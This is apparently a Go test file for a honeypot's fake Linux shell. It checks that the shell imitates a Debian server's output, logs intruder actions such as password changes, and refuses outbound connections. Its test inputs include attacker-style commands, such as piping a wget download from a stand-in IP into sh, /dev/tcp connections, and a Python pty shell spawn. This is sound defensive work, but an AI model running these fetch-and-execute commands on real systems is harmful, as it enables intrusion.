package shell

import (
	"context"
	"regexp"
	"strings"
	"testing"

	"decnet/decoy/event"
)

// elfFor is the beginning of a program for a processor.
func elfFor(machine byte) string {
	return "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 11) + string([]byte{machine, 0}) + strings.Repeat("\x00", 60)
}

func TestAProgramForTheProcessorSeemsToRun(t *testing.T) {
	sys := SystemOf(host(t, "linux", "debian"))
	for _, c := range []struct {
		machine byte
		want    string
	}{{forAMD64, "0\n"}, {forIntel386, "0\n"}, {forARM, "-bash: /tmp/x: cannot execute binary file: Exec format error\n126\n"}} {
		s := newSessionOn(sys, Options{User: "root", Interactive: true})
		if err := s.fs.write("/tmp/x", "root", elfFor(c.machine), false); err != nil {
			t.Fatal(err)
		}
		if got := s.do("chmod +x /tmp/x; /tmp/x; echo $?"); got != c.want {
			t.Errorf("a program for %d says %q", c.machine, got)
		}
		if last := s.events[len(s.events)-1]; last.Type != "execute" {
			t.Errorf("the last event is %+v", last)
		}
	}
	if got := newSessionOn(sys, Options{User: "root"}).do(`echo -ne '\x7fELF' > /tmp/y; chmod +x /tmp/y; /tmp/y; echo $?`); !strings.HasSuffix(got, "Exec format error\n126\n") {
		t.Errorf("four bytes say %q", got)
	}
}

func TestWhatIntrudersLookAtFirst(t *testing.T) {
	for line, want := range map[string]string{
		"cat /proc/version":                     `^Linux version 6\.1\.0-\d+-amd64 \(debian-kernel@lists\.debian\.org\) \(gcc-12 `,
		"df -h /":                               `(?m)^Filesystem +Size +Used Avail Use% Mounted on\n/dev/sda1 +\d+G +[\d.]+G +[\d.]+G +\d+% /$`,
		"lscpu":                                 `(?m)^Vendor ID: +(GenuineIntel|AuthenticAMD)\n  Model name: +\S.*\n    CPU family: +\d+\n(?s:.*)^  L3: `,
		"cat /proc/cpuinfo | tail -6 | head -1": `^bogomips\t: \d{4}\.\d\d\n$`,
		"dmesg | grep -c veth":                  `^0\n$`,
		"systemctl is-active cron; service ssh status": `^active\n● ssh\.service - OpenBSD Secure Shell server\n`,
		"service nonesuch start":                       `^Failed to start nonesuch\.service: Unit nonesuch\.service not found\.`,
		"crontab -l":                                   `^no crontab for root\n$`,
		"kill -9 99999":                                `^-bash: kill: \(99999\) - No such process\n$`,
		"iptables -L -n":                               `^Chain INPUT \(policy ACCEPT\)\n`,
		"lsb_release -a":                               `Release:\t12\nCodename:\tbookworm\n`,
		"perl -e 'print \"a\\n\"'; python3 -c 'print(6*7)'": `^a\n42\n$`,
		"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'": `^$`,
		"busybox ECHI":                                   `^ECHI: applet not found\n$`,
		"stat -c '%a %U %s' /etc/hostname":               `^644 root 13\n$`,
		"useradd -m x; id x; useradd x; userdel x; id x": `^uid=1001\(x\) gid=1001\(x\) groups=1001\(x\)\nuseradd: user 'x' already exists\nid: ‘x’: no such user\n$`,
		"cd /tmp; tar czf a.tgz /etc/hosts; mkdir b; tar xzf a.tgz -C b; cat b/etc/hosts | head -1; tar tf a.tgz": `^tar: Removing leading .* from member names\n127\.0\.0\.1\tlocalhost\netc/hosts\n$`,
		"tar xf /none.tar":                         `^tar: /none\.tar: Cannot open: No such file or directory\n`,
		"printf 'abc' | hexdump -C; echo ab | rev": `^00000000  61 62 63                                          \|abc\|\n00000003\nba\n$`,
		"top -bn1 | head -1":                       `^top - \d\d:\d\d:\d\d up `,
		"tail -1 /var/log/syslog":                  `^Nov 23 0\d:\d\d:\d\d SRV-ALPHA-42 `,
	} {
		s := newSession(t, Options{User: "root", Interactive: true})
		if got := s.do(line); !regexp.MustCompile(want).MatchString(got) {
			t.Errorf("%s prints\n%s", line, got)
		}
	}
}

func TestProcessesHaveNamesAndTimes(t *testing.T) {
	s := newSession(t, Options{User: "root", Interactive: true})
	all := s.do("ps -e")
	for _, name := range []string{"kworker/0:0H-events_highpri", "ksoftirqd/0", "jbd2/sda1-8", "systemd-journal", "init"} {
		if !regexp.MustCompile(`(?m)^ *\d+ \S+ +\d\d:\d\d:\d\d ` + regexp.QuoteMeta(name) + `$`).MatchString(all) {
			t.Errorf("no %s among\n%s", name, all)
		}
	}
	if zeros := strings.Count(all, " 00:00:00 "); zeros == strings.Count(all, "\n")-1 || zeros == 0 {
		t.Errorf("%d of the times are nought:\n%s", zeros, all)
	}
	if got := s.do("ps aux | grep -c 0:00; ps -ef | grep -c '[[]ksoftirqd/0]'"); !strings.HasSuffix(got, "\n1\n") {
		t.Error(got)
	}
}

// TestAPasswordFromAPipe is how most bots change one.
func TestAPasswordFromAPipe(t *testing.T) {
	s := newSession(t, Options{User: "root", Ask: func(string) (string, error) { return "", context.Canceled }})
	if got := s.do(`echo -e "s3cret\ns3cret" | passwd`); got != "New password: Retype new password: passwd: password updated successfully\n" {
		t.Errorf("passwd says %q", got)
	}
	last := s.events[len(s.events)-1]
	if secret, _ := last.Get(event.Secret); last.Type != "password_change" || secret != "s3cret" {
		t.Errorf("the last event is %+v", last)
	}
}

// TestWhatGoesOutIsRejectedAtOnce: a bot goes on to its next way, and each is on record.
func TestWhatGoesOutIsRejectedAtOnce(t *testing.T) {
	for line, want := range map[string]string{
		"wget http://203.0.113.9/x.sh":                "Connecting to 203.0.113.9:80... failed: No route to host.\n",
		"wget http://cdn.example/x.sh":                "wget: unable to resolve host address ‘cdn.example’\n",
		"curl -sS cdn.example":                        "curl: (6) Could not resolve host: cdn.example\n",
		"curl http://203.0.113.9:81/":                 "curl: (7) Failed to connect to 203.0.113.9 port 81 after ",
		"wget -qO- http://203.0.113.9/ | sh; echo $?": "0\n",
		"cat < /dev/tcp/203.0.113.9/80":               "connect: No route to host\n",
		"ssh root@203.0.113.9":                        "ssh: connect to host 203.0.113.9 port 22: No route to host\n",
	} {
		if got := newSession(t, Options{User: "root", Interactive: true}).do(line); !strings.Contains(got, want) {
			t.Errorf("%s prints %q", line, got)
		}
	}
}

// TestWhoHasNoTerminalIsNotSeenAtOne: a command that is given with the login leaves no trace in who is there.
func TestWhoHasNoTerminalIsNotSeenAtOne(t *testing.T) {
	s := newSession(t, Options{User: "root", From: "203.0.113.9", Vars: map[string]string{"SSH_CLIENT": "203.0.113.9 4711 22"}})
	if got := s.do("who; w | wc -l; history; env | grep SSH; env | grep -c TERM; ps aux | grep -c notty"); got != "2\nSSH_CLIENT=203.0.113.9 4711 22\n0\n2\n" {
		t.Errorf("without a terminal: %q", got)
	}
	s = newSession(t, Options{User: "root", From: "203.0.113.9", Interactive: true})
	if got := s.do("who; ps aux | grep -c pts/0"); !strings.Contains(got, "(203.0.113.9)\n") || strings.HasSuffix(got, "\n0\n") {
		t.Errorf("with one: %q", got)
	}
}
